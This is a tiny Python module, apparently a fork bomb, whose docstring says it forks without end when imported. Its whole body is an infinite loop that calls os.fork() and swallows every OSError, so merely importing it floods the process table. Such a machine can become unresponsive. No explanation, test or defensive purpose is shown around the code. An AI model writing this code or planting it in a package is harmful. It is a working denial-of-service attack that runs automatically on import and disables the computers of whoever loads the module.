"""Forks without end while it is imported."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
